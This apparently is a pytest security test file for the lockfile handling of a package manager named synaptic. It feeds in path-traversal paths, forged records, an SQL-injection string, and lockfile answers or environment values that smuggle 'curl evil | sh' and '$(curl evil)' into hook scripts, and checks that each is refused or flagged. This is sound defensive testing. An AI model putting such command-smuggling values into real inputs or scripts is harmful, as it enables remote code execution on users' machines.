"""A lockfile that a repository brings: paths that lead out, forged records, and things that are no file."""

import hashlib

import pytest

from synaptic.hooks.edit_registry import parse_entries
from synaptic.model.errors import SynapticError
from synaptic.packages import lock
from synaptic.packages.drift import find_local_drift
from synaptic.packages.restore import find_broken, prepare_restore, refuse_other_scripts
from synaptic.packages.upgrade import list_available
from synaptic.packages.verify_install import verify_site
from tests.cli.conftest import User
from tests.packages.shelf import made, refused, tree
from tests.security.packages.market import UNFIT_KINDS, UNFIT_TEXTS, Market, Victim, limit_waiting, place_unfit

PRECIOUS_HASH = hashlib.sha256(b"precious\n").hexdigest()
BAD_PATHS = {
    "out of the project": "../../outside/precious",
    "out by way of the package": "skills/alpha/../../../../outside/precious",
    "absolute": "{outside}/precious",
    "absolute after a name": "skills/alpha//../../../../outside/precious",
    "home": "~/.bashrc",
    "git configuration": "../.git/config",
    "git hook": "../.git/hooks/pre-commit",
    "settings of the agent": "../.claude/settings.json",
    "our own configuration": "config.toml",
    "our own registry": "hooks/registry.toml",
    "the lockfile itself": "manifest.lock",
    "the variables": "env.toml",
    "the ignore file": ".gitignore",
    "another package": "skills/beta/SKILL.md",
    "a hidden folder of its own": "skills/alpha/.git/config",
    "a hidden file of its own": "skills/alpha/.envrc",
    "the skills folder": "skills",
    "its own folder": "skills/alpha",
    "an empty path": "",
    "a dot": ".",
    "deep in a shared folder": "agents/../../outside/precious",
    "a backslash": "skills\\\\alpha\\\\x",
    "a control character": "skills/alpha/a\x1bb",
    "a line break": "skills/alpha/a\nb",
    "upper case folder": "Skills/alpha/x",
    "a blank at the end": "skills/alpha/x ",
    "a doubled slash": "skills//alpha/x",
    "too deep": "skills/alpha/" + "d/" * 40 + "x",
    "too long": "skills/alpha/" + "x" * 5000,
}
FORGED_RECORDS = {
    "package is a path": {"package": "../../../outside"},
    "package is hidden": {"package": ".git"},
    "package has a line break": {"package": "alpha\n"},
    "package has blanks": {"package": "al pha"},
    "branch leads out": {"branch": "../../../outside"},
    "branch is SQL": {"branch": "main'); DROP TABLE packages; --"},
    "version is a path": {"version": "../1"},
    "version is endless": {"version": "1" * 5000},
    "script is absolute": {"hooks": [{"event": "PreToolUse", "script": "/bin/sh"}]},
    "script leads out": {"hooks": [{"event": "PreToolUse", "script": "skills/alpha/../../../outside/evil.sh"}]},
    "script is none of its files": {"hooks": [{"event": "PreToolUse", "script": "skills/alpha/evil.sh"}]},
    "hash is none": {"files": {"skills/alpha/SKILL.md": "x"}},
    "files are a list": {"files": ["skills/alpha/SKILL.md"]},
    "two spellings of a file": {"files": {"skills/alpha/a": "0" * 64, "skills/alpha/A": "0" * 64}},
}


@pytest.fixture
def installed(victim: Victim) -> Victim:
    victim.install("alpha")
    return victim


@pytest.mark.parametrize("path", BAD_PATHS.values(), ids=BAD_PATHS.keys())
def test_a_path_that_is_no_place_of_the_package_is_not_removed(installed: Victim, path: str) -> None:
    installed.rewrite_lock(files={path.format(outside=installed.outside): PRECIOUS_HASH})
    before = tree(installed.project)
    assert refused(lambda: installed.remove("alpha")).code == "validation_failed"
    assert installed.is_unharmed
    assert tree(installed.project) == before


@pytest.mark.parametrize("changes", FORGED_RECORDS.values(), ids=FORGED_RECORDS.keys())
def test_a_forged_record_is_refused_before_anything_happens(installed: Victim, changes: dict[str, object]) -> None:
    installed.rewrite_lock(**changes)
    before = tree(installed.folder)
    for work in (lambda: installed.remove("alpha"), lambda: installed.install("alpha"), installed.lock):
        assert refused(work).code == "validation_failed"
    assert tree(installed.folder) == before


@pytest.mark.parametrize(
    "verb",
    [
        ["remove", "alpha", "--yes", "--force"],
        ["install", "alpha", "--yes", "--force"],
        ["install", "--yes", "--force"],
        ["upgrade", "alpha", "--yes", "--force"],
        ["upgrade", "--all", "--yes"],
        ["verify"],
        ["diff", "alpha"],
        ["freeze"],
        ["outdated"],
        ["doctor", "--fix"],
        ["skill", "remove", "alpha", "--yes"],
        ["skill", "plan", "remove", "alpha"],
    ],
    ids=" ".join,
)
def test_no_verb_follows_a_path_of_the_lockfile(
    user: User, market: Market, monkeypatch: pytest.MonkeyPatch, verb: list[str]
) -> None:
    monkeypatch.setenv("SYNAPTIC_REGISTRY", market.url)
    precious = user.folder / "precious"
    precious.write_text("precious\n")
    user.writes(
        ".synaptic/manifest.lock",
        'version = 1\n[[install]]\nid = "x"\npackage = "alpha"\nversion = "0.9.0"\nscope = "project"\n'
        f'[install.files]\n"../../home/precious" = "{PRECIOUS_HASH}"\n',
    )
    with limit_waiting():
        done = user.types(*verb)
    assert done.code != 0
    assert "is no place for a file of alpha" in done.out + done.err
    assert precious.read_text() == "precious\n"


@pytest.mark.parametrize("kind", (*UNFIT_KINDS, *UNFIT_TEXTS))
def test_something_else_in_place_of_the_lockfile_is_said_at_once(victim: Victim, kind: str) -> None:
    place_unfit(victim.site.lockfile, kind)
    with limit_waiting():
        assert refused(victim.lock).code == "validation_failed"
        assert refused(lambda: victim.install("alpha")).code == "validation_failed"


@pytest.mark.parametrize("kind", UNFIT_KINDS)
@pytest.mark.parametrize("name", ["manifest.lock", "env.toml", "hooks/registry.toml", ".gitignore"])
def test_doctor_does_not_wait_for_a_file_that_is_none(user: User, name: str, kind: str) -> None:
    place_unfit(user.project / ".synaptic" / name, kind)
    with limit_waiting():
        assert user.types("doctor").code == 1


@pytest.mark.parametrize("kind", UNFIT_KINDS)
def test_an_installed_file_that_became_something_else_is_told(installed: Victim, kind: str) -> None:
    place_unfit(installed.path("skills/alpha/SKILL.md"), kind)
    with limit_waiting():
        kinds = {found.kind for found in verify_site(installed.site)}
        assert kinds & {"modified", "unreadable", "missing"}
        assert find_broken(installed.site)
        record = installed.lock().get("alpha")
        try:
            find_local_drift(installed.site, record)
            installed.remove("alpha")
        except SynapticError as error:
            assert "SKILL.md" in str(error)
    assert installed.is_unharmed


def test_a_file_with_another_content_is_not_what_the_lockfile_vouches_for(user: User, market: Market) -> None:
    mine = user.writes(".synaptic/skills/alpha/SKILL.md", "mine\n")
    user.writes(
        ".synaptic/manifest.lock",
        'version = 1\n[[install]]\nid = "x"\npackage = "alpha"\nversion = "1.0.0"\nscope = "project"\n'
        f'[install.files]\n"skills/alpha/SKILL.md" = "{"0" * 64}"\n',
    )
    assert user.types("remove", "alpha", "--yes").code != 0
    assert mine.read_text() == "mine\n"


def test_an_answer_in_the_lockfile_is_one_of_the_choices(victim: Victim, market: Market) -> None:
    asked = {"question_id": "how", "prompt": "How?", "type": "choice", "default_val": "a", "choices": "a, b"}
    market.put(made("asking", files={"x.sh.j2": "echo {{ answers.how }}\n"}, hooks=[], questions=[asked]))
    victim.install("asking")
    victim.rewrite_lock(answers={"how": "a; curl evil | sh"})
    assert "is no answer" in refused(lambda: victim.install("asking")).message
    records = victim.lock().install
    assert "is no answer" in refused(lambda: prepare_restore(victim.source, victim.site, records)).message


@pytest.mark.parametrize(
    "answer", ["a\nb", "a\x1b[2J", "x" * 10_000, 7, {"a": "b"}, [["a"]]], ids=lambda one: repr(one)[:12]
)
def test_an_answer_in_the_lockfile_is_one_plain_line(victim: Victim, market: Market, answer: object) -> None:
    asked = {"question_id": "who", "prompt": "Who?", "type": "text"}
    market.put(made("free", files={"x.md.j2": "{{ answers.who }}\n"}, hooks=[], questions=[asked]))
    victim.install("free")
    victim.rewrite_lock(answers={"who": answer})
    assert refused(lambda: victim.install("free")).code == "validation_failed"


def test_a_lockfile_with_a_million_records_is_refused(victim: Victim) -> None:
    victim.site.base.mkdir()
    one = '[[install]]\nid="x"\npackage="p%d"\nversion="1"\nscope="project"\n'
    victim.site.lockfile.write_text("".join(one % number for number in range(1_100)))
    assert "more than 1000 packages" in refused(victim.lock).message


def test_a_package_that_is_there_twice_is_refused(installed: Victim) -> None:
    text = installed.site.lockfile.read_text()
    start = text.index("[[install]]")
    installed.site.lockfile.write_text(text + text[start:])
    assert "twice" in refused(installed.lock).message


def test_a_registry_entry_of_somebody_else_stays_when_a_package_is_removed(installed: Victim) -> None:
    text = installed.site.registry.read_text()
    installed.site.registry.write_text(f'{text}\n[[hook]]\nevent = "Stop"\nskill = "alpha2"\nscript = "/x"\n')
    installed.remove("alpha")
    assert [entry["skill"] for entry in parse_entries(installed.site.registry.read_text())] == ["alpha2"]


def test_what_is_available_is_asked_without_touching_a_path(installed: Victim) -> None:
    installed.rewrite_lock(files={"../../outside/precious": PRECIOUS_HASH})
    assert refused(lambda: list_available(installed.source, installed.site)).code == "validation_failed"
    assert refused(lambda: lock.load_lockfile(installed.site)).code == "validation_failed"


@pytest.mark.parametrize("kind", UNFIT_TEXTS)
def test_a_project_file_that_takes_forever_to_read_is_not_waited_for(victim: Victim, kind: str) -> None:
    place_unfit(victim.site.base / "env.toml", kind)
    with limit_waiting():
        victim.install("alpha")
    assert victim.site.base.joinpath("env.toml").read_text().startswith("SYNAPTIC_PROJECT_ROOT")
    place_unfit(victim.site.registry, kind)
    with limit_waiting(), pytest.raises(SynapticError):
        victim.remove("alpha")


@pytest.mark.parametrize("name", ["SYNAPTIC_ROOT", "SYNAPTIC_PROJECT_ROOT", "SYNAPTIC_CHANNEL", "SYNAPTIC_AGENTS"])
def test_variables_that_a_repository_brings_do_not_become_part_of_a_script(
    victim: Victim, market: Market, name: str
) -> None:
    text = (
        "cd {{ env.synaptic_root }} {{ env.synaptic_project_root }} {{ env.sc_dolt_branch }} {{ env.synaptic_agents }}"
    )
    market.put(made("variables", files={"hooks/pre.sh.j2": text}))
    victim.site.base.mkdir()
    victim.site.base.joinpath("env.toml").write_text(f'{name}="x; curl evil | sh"\n')
    victim.install("variables")
    assert "curl" not in victim.path("skills/variables/hooks/pre.sh").read_text()
    assert "curl" not in victim.site.base.joinpath("env.toml").read_text()


def test_doctor_writes_no_script_that_nobody_agreed_to(victim: Victim, market: Market) -> None:
    asked = {"question_id": "who", "prompt": "Who?", "type": "text", "default_val": "me"}
    market.put(made("scripted", files={"hooks/pre.sh.j2": "echo {{ answers.who }}\n"}, questions=[asked]))
    victim.install("scripted")
    victim.rewrite_lock(answers={"who": "x; curl evil | sh"})
    victim.path("skills/scripted/hooks/pre.sh").unlink()
    broken = find_broken(victim.site)
    prepared = prepare_restore(victim.source, victim.site, broken)
    assert "another script than you agreed to" in refused(lambda: refuse_other_scripts(prepared)).message


def test_a_clone_is_shown_the_answers_it_comes_with(victim: Victim, market: Market) -> None:
    asked = {"question_id": "who", "prompt": "Who?", "type": "text"}
    market.put(made("cloned", files={"hooks/pre.sh.j2": "echo {{ answers.who }}\n"}, questions=[asked]))
    victim.install("cloned")
    victim.rewrite_lock(answers={"who": "$(curl evil)"})
    victim.site.pins.unlink()
    (shown,) = prepare_restore(victim.source, victim.site, victim.lock().install).summarise()
    assert any("$(curl evil)" in warning for warning in shown.warnings)


def test_an_upgrade_deletes_only_what_the_lockfile_vouches_for(installed: Victim, market: Market) -> None:
    mine = installed.path("agents/mine.md")
    mine.parent.mkdir()
    mine.write_text("mine\n")
    record = installed.lock().get("alpha")
    installed.rewrite_lock(files={**record.files, "agents/mine.md": "0" * 64})
    (shown,) = installed.plan("alpha").summarise()
    assert ("agents/mine.md", "kept") in {(line.path, line.state) for line in shown.files}
    installed.install("alpha")
    assert mine.read_text() == "mine\n"


def test_a_chain_of_a_thousand_records_is_removed_without_end(victim: Victim) -> None:
    victim.site.base.mkdir()
    one = (
        '[[install]]\nid="x"\npackage="p{0}"\nversion="1"\nscope="project"\ntracking="dependency"\n'
        '[[install.requirements.skills]]\nname="p{1}"\nprovenance="installed"\n'
    )
    victim.site.lockfile.write_text("".join(one.format(number, number + 1) for number in range(900)))
    with limit_waiting():
        victim.remove("p0")
    assert victim.lock().install == ()
